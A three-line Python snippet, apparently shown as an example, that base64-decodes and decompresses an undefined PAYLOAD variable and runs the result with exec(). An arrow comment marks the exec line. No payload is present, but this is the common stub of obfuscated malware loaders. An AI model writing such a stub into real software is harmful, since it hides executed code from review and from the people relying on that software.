import zlib, base64
blob = zlib.decompress(base64.b64decode(PAYLOAD))
exec(blob)  # <-
